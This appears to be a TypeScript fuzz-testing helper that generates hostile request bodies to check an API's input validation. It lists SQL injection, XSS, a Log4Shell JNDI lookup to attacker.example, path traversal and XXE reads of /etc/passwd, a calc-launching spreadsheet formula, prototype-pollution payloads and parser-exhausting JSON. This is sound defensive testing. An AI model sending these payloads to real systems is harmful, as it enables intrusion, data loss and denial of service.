import fc from 'fast-check';
import { JsonSchema, OpenApiDocument, resolveSchema } from './openapi';

/** Strings that have broken software before: SQL, script, template and path injection, odd Unicode. */
export const INJECTIONS = [
  "'; DROP TABLE audit_log; --",
  "' OR '1'='1",
  '" OR ""="',
  '1; SELECT pg_sleep(5)--',
  "13' UNION SELECT current_user --",
  '<script>alert(1)</script>',
  '${jndi:ldap://attacker.example/a}',
  '{{7*7}}',
  '../../../../etc/passwd',
  '..%2F..%2Fetc%2Fpasswd',
  "=cmd|' /C calc'!A0",
  '\u0000',
  'a\u0000b',
  '\uD800',
  '\u202Eevil',
  '１３',
  '١٣',
  'NaN',
  'Infinity',
  '-0',
  '1e309',
  '99999999999999999999999999',
  '0x1F',
  'true',
  'null',
  '[]',
  '{}',
  ' 13 ',
  '13\n',
  '🙂'.repeat(50),
  'x'.repeat(5000),
];

/** A hostile string: a known injection, or arbitrary text (any Unicode, control characters). */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...INJECTIONS) },
  { weight: 1, arbitrary: fc.string({ maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
);

/** A value of any JSON type, hostile where it can be. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: hostileString },
  { weight: 1, arbitrary: fc.integer() },
  { weight: 1, arbitrary: fc.constantFrom(-1, 0, 1.5, Number.MAX_SAFE_INTEGER, -Number.MAX_SAFE_INTEGER, 1e308) },
  { weight: 1, arbitrary: fc.boolean() },
  { weight: 1, arbitrary: fc.constant(null) },
  { weight: 1, arbitrary: fc.array(hostileString, { maxLength: 3 }) },
  { weight: 1, arbitrary: fc.dictionary(hostileString, hostileString, { maxKeys: 3 }) },
);

/** Property names no DTO declares (forbidNonWhitelisted must refuse them). */
const unknownKey = fc.constantFrom("'; DROP TABLE outbox; --", '$where', 'constructor', 'isAdmin', '__defineGetter__', 'ｓｔａｔｅＣｏｄｅ', 'x'.repeat(300));

/**
 * A body shaped like the route's DTO with every field hostile or wrongly typed, plus one property
 * the DTO does not declare — so it can never be valid, even where a free-text field accepts the
 * hostile string.
 */
export function mutantBody(document: OpenApiDocument, schema: JsonSchema | undefined): fc.Arbitrary<Record<string, unknown>> {
  const resolved = resolveSchema(document, schema);
  const fields = Object.keys(resolved?.properties ?? {});
  const record = fields.length
    ? fc.record(Object.fromEntries(fields.map((f) => [f, hostileValue])), { requiredKeys: [] })
    : fc.constant({});
  return fc.tuple(record, unknownKey, hostileValue).map(([body, key, value]) => ({ ...body, [key]: value }));
}

/** Bodies that are JSON but not an object: arrays, strings, numbers, null, booleans. */
export const nonObjectBody: fc.Arbitrary<unknown> = fc.oneof(
  fc.array(hostileValue, { maxLength: 5 }),
  hostileString,
  fc.integer(),
  fc.constant(null),
  fc.boolean(),
);

/** Raw request bodies (already text) that attack the parser or the object model. */
export function rawJsonAttacks(validish: Record<string, unknown>): Array<{ name: string; body: string }> {
  const inner = JSON.stringify(validish).slice(1, -1);
  const comma = inner ? `,${inner}` : '';
  return [
    { name: '__proto__ pollution', body: `{"__proto__":{"isAdmin":true,"roles":["federal-coordinator"]}${comma}}` },
    { name: 'constructor.prototype pollution', body: `{"constructor":{"prototype":{"isAdmin":true}}${comma}}` },
    { name: 'deep arrays (10,000 levels)', body: `${'['.repeat(10000)}${']'.repeat(10000)}` },
    { name: 'deep objects (10,000 levels)', body: `${'{"a":'.repeat(10000)}1${'}'.repeat(10000)}` },
    { name: 'deep object in a field (2,000 levels)', body: `{"x":${'{"a":'.repeat(2000)}1${'}'.repeat(2000)}${comma}}` },
    { name: 'truncated JSON', body: `{"a":` },
    { name: 'single quotes', body: `{'a': 1}` },
    { name: 'trailing comma', body: `{"a": 1,}` },
    { name: 'BOM and NUL', body: `\uFEFF{"a":"\u0000"}` },
    { name: 'duplicate keys', body: `{"a":1,"a":{"b":2}${comma}}` },
    { name: '10 MB string', body: `{"name":"${'A'.repeat(10 * 1024 * 1024)}"${comma}}` },
  ];
}

/** Other content types sent to a JSON route. */
export const WRONG_CONTENT_TYPES: Array<{ name: string; type: string; body: string }> = [
  { name: 'text/plain', type: 'text/plain', body: "'; DROP TABLE audit_log; --" },
  { name: 'application/xml', type: 'application/xml', body: '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>' },
  { name: 'form with injection', type: 'application/x-www-form-urlencoded', body: "%27%3B+DROP+TABLE+outbox%3B+--=1&__proto__%5BisAdmin%5D=true" },
  { name: 'json with charset utf-16', type: 'application/json; charset=utf-16', body: '{"a":1}' },
  { name: 'no content type', type: '', body: '{"a":1}' },
];
